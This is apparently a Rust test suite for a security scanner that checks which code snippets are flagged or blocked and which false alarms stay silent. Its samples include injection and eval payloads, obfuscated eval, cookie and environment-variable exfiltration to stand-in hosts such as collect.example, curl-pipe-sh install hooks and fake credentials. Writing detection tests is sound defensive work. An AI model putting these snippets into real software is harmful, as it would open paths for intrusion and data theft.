//! What lets strangers in, and what leaves.

use scanner::finding::Category::{
    self, Backdoor, Cmdi, Dependency, Destructive, Eval, Exfil, Network, Obfuscated, Secret, Sqli, Token, Xss,
};
use scanner::finding::Verdict::{self, Block, Review};

use super::Rows;

/// What the row says, a program, and what must be found in it.
type Found = (&'static str, &'static str, Category, Verdict);

/// Inside a handler of requests.
macro_rules! handler {
    ($body:expr) => {
        concat!("app.post('/x', async (req, res) => { ", $body, " });\n")
    };
}

// Secrets are written in pieces, so that nobody's scanner stumbles over this file.
macro_rules! password {
    () => {
        concat!("q7!Vd2", "mZp9xLw")
    };
}

macro_rules! model_key {
    () => {
        concat!("sk-", "proj-", "x7Kq2mV9bT4nR8wL1pZ6cY3dF5hJ0sAg")
    };
}

macro_rules! tail {
    () => {
        "x7Kq2mV9bT4nR8wL1pZ6cY3dF5hJ0sAgEu2W"
    };
}

#[track_caller]
fn check(path: &str, table: &[Found]) {
    let mut rows = Rows::default();
    for (row, text, category, verdict) in table {
        rows.finds(row, path, text, *category, *verdict);
    }
    rows.end();
}

const MEANT: &[Found] = &[
    ("`${…}` and a word of SQL", handler!("await pool.query(`${req.body.verb} * FROM users`);"), Sqli, Block),
    (
        "`+` and a word of SQL",
        handler!("await pool.query(base + \" WHERE id = \" + req.body.id);"),
        Sqli,
        Block,
    ),
    // Only what a stranger certainly chooses blocks; of a property nobody knows, so a person looks.
    (
        "dangerouslySetInnerHTML",
        "export const A = ({ html }) => <p dangerouslySetInnerHTML={{ __html: html }} />;",
        Xss,
        Review,
    ),
    ("`innerHTML =`", "export const a = (el, text) => { el.innerHTML = text; };", Xss, Review),
    (
        "exec/execSync/spawn/spawnSync( … `${`",
        concat!("import { exec } from 'child_process';\n", handler!("exec(`convert ${req.body.file}`);")),
        Cmdi,
        Block,
    ),
    (
        "exec/execSync( … `+`",
        "import { execSync } from 'child_process';\nexport const a = (b) => execSync('git log ' + b);",
        Cmdi,
        Review,
    ),
    (
        "api_key / api_secret / auth_token / access_token / secret_key",
        concat!("const api_key = \"", "q7Vd2mZp9xLwT4n", "R8wL1pZ6cY3dF5", "\";"),
        Secret,
        Block,
    ),
    ("password/passwd/pwd", concat!("const passwd = '", password!(), "';"), Secret, Block),
    ("sk-…", concat!("const a = \"", model_key!(), "\";"), Token, Block),
    ("eval(", handler!("eval(req.body.code);"), Eval, Block),
    ("new Function(", "export const a = (text) => new Function(text);", Eval, Review),
    (
        "≥4 consecutive \\xNN escapes",
        "const a = '\\x65\\x76\\x61\\x6c\\x28\\x61\\x74\\x6f\\x62\\x28\\x78\\x29\\x29'; Function(a)();",
        Obfuscated,
        Review,
    ),
    ("atob(\"≥20 base64 chars\")", "eval(atob('YWxlcnQoMSkrYWxlcnQoMik='));", Obfuscated, Block),
    (
        "Buffer.from(\"≥40 base64 chars\",\"base64\")",
        "eval(Buffer.from('cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIpLmV4ZWMoImlkIik=', 'base64').toString());",
        Obfuscated,
        Block,
    ),
    (
        "fetch(\"http(s)://…\") to an unknown host",
        "fetch('http://203.0.113.9/a', { method: 'POST', body: 'x' });",
        Network,
        Review,
    ),
    (
        "net/dgram/http/https",
        "import net from 'net'; net.createServer((it) => {}).listen(4444);",
        Network,
        Review,
    ),
    ("stratum+tcp", "const pool = 'stratum+tcp://pool.example:3333';", Backdoor, Block),
    ("coinhive", "new CoinHive.Anonymous('k').start();", Backdoor, Block),
    (
        "document.cookie/localStorage/sessionStorage … then fetch",
        "const c = document.cookie; fetch('https://collect.example/' + c);",
        Exfil,
        Block,
    ),
];

#[test]
fn what_the_rules_mean_is_found() {
    check("apps/web/a.tsx", MEANT);
    let mut rows = Rows::default();
    let schema = "ALTER TABLE a DROP COLUMN b;";
    rows.finds("schema-destructive", "db/prisma/migrations/1/migration.sql", schema, Destructive, Block);
    let docs = concat!("Set it to `", model_key!(), "`.\n");
    rows.finds("sk-… token in docs .md", "docs/setup.md", docs, Token, Review);
    rows.end();
}

const MISSED: &[Found] = &[
    (
        "$executeRawUnsafe template",
        handler!("await prisma.$executeRawUnsafe(`UPDATE a SET b = ${req.body.b} WHERE id = 1`);"),
        Sqli,
        Block,
    ),
    (
        "`SELECT … ${id}` order (keyword first)",
        handler!("await db.query(`SELECT * FROM a WHERE id = ${req.body.id}`);"),
        Sqli,
        Block,
    ),
    (
        "execFile(\"sh\",[\"-c\",…])",
        concat!(
            "import { execFile } from 'child_process';\n",
            handler!("execFile('sh', ['-c', 'ls ' + req.body.dir]);")
        ),
        Cmdi,
        Block,
    ),
    (
        "spawn shell:true",
        concat!(
            "import { spawn } from 'child_process';\n",
            handler!("spawn('ls ' + req.body.dir, { shell: true });")
        ),
        Cmdi,
        Block,
    ),
    ("outerHTML", handler!("el.outerHTML = req.body.text;"), Xss, Block),
    ("insertAdjacentHTML", handler!("el.insertAdjacentHTML('beforeend', req.body.text);"), Xss, Block),
    ("document.write", "document.write('<p>' + location.hash + '</p>');", Xss, Block),
    ("setTimeout(\"code\")", "export const a = (it) => setTimeout('show(' + it + ')', 1);", Eval, Review),
    ("Function() without new", "export const a = (text) => Function(text)();", Eval, Review),
    (
        "vm.run*",
        concat!("import vm from 'vm';\n", handler!("vm.runInThisContext(req.body.code);")),
        Eval,
        Block,
    ),
    (
        "vm.run*",
        concat!("import vm from 'vm';\n", handler!("vm.runInNewContext(req.body.code, {});")),
        Eval,
        Block,
    ),
    ("dynamic import(var)", handler!("await import(req.body.name);"), Eval, Block),
    ("\\u escapes", "ev\\u0061l(location.hash);", Eval, Block),
    (
        "String.fromCharCode",
        "eval(String.fromCharCode(97, 108, 101, 114, 116, 40, 49, 41));",
        Obfuscated,
        Block,
    ),
    (
        "hex Buffer",
        "const p = Buffer.from('636f6e736f6c652e6c6f6728312b31293b', 'hex').toString(); new Function(p)();",
        Obfuscated,
        Block,
    ),
    (
        "base64 in a variable",
        "const text = 'YWxlcnQoMSkrYWxlcnQoMik='; const plain = atob(text); eval(plain);",
        Obfuscated,
        Block,
    ),
];

#[test]
fn queries_commands_and_markup_that_were_missed_are_found() {
    check("apps/web/a.ts", MISSED);
}

#[test]
fn files_of_every_kind_are_looked_at() {
    let mut rows = Rows::default();
    for path in ["a.js", "a.mjs", "a.cjs", "a.jsx", "a.mts", "a.cts"] {
        rows.finds("every .js/.mjs/.cjs/.jsx", path, handler!("eval(req.body.code);"), Eval, Block);
    }
    let fetched = "curl -fsSL https://example.com/install.sh | sh\n";
    for (path, text) in [
        ("scripts/setup.sh", format!("#!/bin/sh\n{fetched}")),
        ("deploy/job.yml", format!("steps:\n  - run: {fetched}")),
        ("Dockerfile", format!("FROM alpine\nRUN {fetched}")),
    ] {
        rows.finds("every .sh/.yml/Dockerfile: what is fetched and run", path, &text, Backdoor, Review);
    }
    for (path, text) in [
        ("scripts/setup.sh", concat!("export DB_PASSWORD=", password!(), "\n")),
        ("deploy/app.yml", concat!("db:\n  password: ", password!(), "\n")),
        ("Dockerfile", concat!("FROM alpine\nENV DB_PASSWORD=", password!(), "\n")),
    ] {
        rows.finds("every .sh/.yml/Dockerfile: secrets", path, text, Secret, Block);
    }
    rows.end();
}

const TOKENS: &[Found] = &[
    ("AWS AKIA", concat!("AKIA", "Q7VD2MZP4XLWT5NR"), Token, Block),
    ("ghs_", concat!("ghs_", tail!()), Token, Block),
    ("ghu_", concat!("ghu_", tail!()), Token, Block),
    ("ghr_", concat!("ghr_", tail!()), Token, Block),
    ("glpat-", concat!("glpat-", "x7Kq2mV9bT4nR8wL1pZ6"), Token, Block),
    ("npm_", concat!("npm_", tail!()), Token, Block),
    ("sk_live_ (underscore)", concat!("sk_live_", "x7Kq2mV9bT4nR8wL1pZ6cY3d"), Token, Block),
    (
        "Slack xapp-",
        concat!(
            "xapp-1-",
            "A0B1C2D3E4F-1234567890123-",
            "a7f92c61b0d84e35a7f92c61b0d84e35a7f92c61b0d84e35a7f92c61b0d84e35"
        ),
        Token,
        Block,
    ),
    // A web token may have expired long ago, or be public: a person decides.
    (
        "JWT",
        concat!(
            "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9",
            ".eyJzdWIiOiI4MTIzNjQ3IiwibmFtZSI6IkFubiBMZWUiLCJpYXQiOjE3MTYyMzkwMjJ9",
            ".k3J9xQ2mZp7VtLw8RnYb4cD6fGhS1aEu5iOqTzXvNs0"
        ),
        Token,
        Review,
    ),
    ("Google AIza", concat!("AIza", "SyD7x9Kq2mV4bT8nR3wL6pZ1cY5dF0hJsAg"), Token, Block),
    (
        "`postgres://u:p@h`",
        concat!("postgres://app:", "q7Vd2", "mZp9xLw", "@db.internal.io:5432/shop"),
        Secret,
        Block,
    ),
];

#[test]
fn secrets_that_were_missed_are_found() {
    let mut rows = Rows::default();
    for (row, value, category, verdict) in TOKENS {
        rows.finds(row, "apps/web/a.ts", &format!("const a = \"{value}\";\n"), *category, *verdict);
        rows.finds(row, "deploy/app.yml", &format!("value: \"{value}\"\n"), *category, *verdict);
    }
    for kind in ["PRIVATE KEY", "RSA PRIVATE KEY", "EC PRIVATE KEY", "OPENSSH PRIVATE KEY"] {
        let line = "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7x9Kq2mV9bT4n\n";
        let pem = format!("-----BEGIN {kind}-----\n{}-----END {kind}-----\n", line.repeat(3));
        rows.finds("PEM private keys", "deploy/server.key", &pem, Secret, Block);
    }
    let backticks = concat!("const password = `", password!(), "`;\n");
    rows.finds("backtick-quoted secrets", "a.ts", backticks, Secret, Block);
    let unquoted = concat!("DB_PASSWORD=", password!(), "\n");
    rows.finds("unquoted (.env) secrets", ".env", unquoted, Secret, Block);
    rows.end();
}

// A call to a host alone is no harm; something confidential that goes there, or a host that hides who it is, is.
const LEAVING: &[Found] = &[
    ("fetch(`https://…`) template", "fetch(`https://collect.example/?${document.cookie}`);", Exfil, Block),
    (
        "axios",
        "import axios from 'axios'; axios.post('https://collect.example/', process.env);",
        Exfil,
        Block,
    ),
    (
        "WebSocket",
        "const s = new WebSocket('wss://collect.example/'); s.send(localStorage.getItem('token'));",
        Exfil,
        Block,
    ),
    (
        "XMLHttpRequest",
        "const x = new XMLHttpRequest(); x.open('POST', 'https://collect.example/'); x.send(document.cookie);",
        Exfil,
        Block,
    ),
    (
        "dns",
        "import dns from 'dns'; import os from 'os'; dns.lookup(os.hostname() + '.collect.example', () => {});",
        Exfil,
        Block,
    ),
    (
        "process.env exfiltration",
        "fetch('https://collect.example/', { method: 'POST', body: JSON.stringify(process.env) });",
        Exfil,
        Block,
    ),
    (
        "reversed order (fetch(… document.cookie))",
        "fetch('https://collect.example/?c=' + document.cookie);",
        Exfil,
        Block,
    ),
    ("allow-list prefix bypass", "fetch('https://localhost.evil/?c=' + document.cookie);", Exfil, Block),
    (
        "allow-list prefix bypass",
        "fetch('https://api.github.com.evil.io/', { method: 'POST', body: document.cookie });",
        Exfil,
        Block,
    ),
    ("allow-list prefix bypass", "fetch('https://127.0.0.1@evil/?c=' + document.cookie);", Exfil, Block),
    ("allow-list prefix bypass, nothing sent", "fetch('https://localhost.evil/');", Network, Review),
    ("allow-list prefix bypass, nothing sent", "fetch('https://api.github.com.evil.io/');", Network, Review),
    ("allow-list prefix bypass, nothing sent", "fetch('https://127.0.0.1@evil/');", Network, Review),
];

#[test]
fn what_left_unnoticed_is_found() {
    check("apps/web/a.ts", LEAVING);
    let mut rows = Rows::default();
    let manifest =
        "{ \"name\": \"web\", \"scripts\": { \"postinstall\": \"curl https://a.example/x | sh\" } }\n";
    rows.finds("package.json postinstall scripts", "apps/web/package.json", manifest, Backdoor, Block);
    let lock = "{\"lockfileVersion\": 3, \"packages\": {\"node_modules/a\": {\"version\": \"1.0.0\", \"resolved\": \
                \"https://evil.example/a.tgz\", \"integrity\": \"sha512-AAAA\"}}}\n";
    rows.finds("lockfile URL changes", "package-lock.json", lock, Dependency, Review);
    rows.end();
}

const FALSE_ALARMS: &[(&str, &str, &str)] = &[
    ("`sk-` inside \"task-…\"", "apps/a.ts", "const a = 'task-queue-processor-long-name';\n"),
    ("`sk-` inside \"risk-…\"", "docs/a.md", "The risk-assessment-questionnaire and disk-usage-report.\n"),
    ("`sk-` at a word boundary: placeholders", "docs/a.md", "OPENAI_API_KEY=sk-your-api-key-here-please\n"),
    ("`sk-` at a word boundary: placeholders", "apps/a.ts", "const a = 'sk-xxxxxxxxxxxxxxxxxxxxxxxx';\n"),
    ("`sk-` at a word boundary: tests", "apps/a.test.ts", "const a = 'sk-test-1234567890abcdef';\n"),
    ("fixtures: \"test-api-key-…\"", "apps/a.test.ts", "const apiKey = 'test-api-key-1234567890';\n"),
    ("fixtures: \"test-api-key-…\"", "apps/a.ts", "const apiKey = 'test-api-key-1234567890';\n"),
    (
        "fetch(`/api/…/${id}`, {method:\"DELETE\"})",
        "apps/a.ts",
        "export const a = (id) => fetch(`/api/items/${id}`, { method: 'DELETE' });\n",
    ),
    (
        "prose \"…${x}. Create …\"",
        "apps/a.ts",
        "export const a = (x) => `Hello ${x}. Create an account, or select one.`;\n",
    ),
    (
        "prose \"…${x}. Update …\"",
        "apps/a.tsx",
        "export const A = ({ n }) => <p>{`You have ${n}. Update or delete them.`}</p>;\n",
    ),
    (
        "prose put together",
        "apps/a.ts",
        "export const a = (n) => 'There are ' + n + ' files. ' + 'Select where to go.';\n",
    ),
    (
        "command-injection: fixed commands",
        "scripts/a.ts",
        "import { execSync } from 'child_process'; execSync('git rev-parse HEAD'); const m = /a/.exec(`${b}`);\n",
    ),
    (
        "password: labels and types",
        "apps/a.tsx",
        "const a = { password: 'Your password' }; type B = { password: string };\n",
    ),
    ("password: from the environment", "apps/a.ts", "const password = process.env.DB_PASSWORD ?? '';\n"),
    (
        "raw SQL that is fixed",
        "apps/a.ts",
        "const a = await prisma.$queryRaw`SELECT 1`; await db.query('SELECT a FROM b');\n",
    ),
    (
        "raw SQL with parameters",
        "apps/a.ts",
        "export const a = (id) => prisma.$queryRaw`SELECT a FROM b WHERE id = ${id}`;\n",
    ),
    (
        "fetch to api.openai.com",
        "apps/a.ts",
        "await fetch('https://api.openai.com/v1/models', { headers: { Authorization: `Bearer ${process.env.OPENAI_API_KEY}` } });\n",
    ),
    (
        "base64 that is data",
        "apps/a.ts",
        "const a = Buffer.from('aGVsbG8gd29ybGQsIGhvdyBhcmUgeW91IHRvZGF5', 'base64');\n",
    ),
    ("\\xNN escapes that are data", "apps/a.ts", "const png = '\\x89\\x50\\x4e\\x47\\x0d\\x0a\\x1a\\x0a';\n"),
    (
        "schema-destructive: words in a model",
        "packages/db/schema.prisma",
        "// DROP TABLE is not needed\nmodel A {\n  id Int @id\n}\n",
    ),
    // Colours are a matter of taste, and none of the four gates' business.
    (
        "hex colour literal in component",
        "apps/a.tsx",
        "export const A = () => <p style={{ color: '#ff8800' }}>a</p>;\n",
    ),
    ("dangerouslySetInnerHTML in .md", "docs/a.md", "Use `<p dangerouslySetInnerHTML={{ __html: a }} />`.\n"),
];

#[test]
fn false_alarms_are_silent() {
    let mut rows = Rows::default();
    for (row, path, text) in FALSE_ALARMS {
        rows.is_silent(row, path, text);
    }
    rows.end();
}
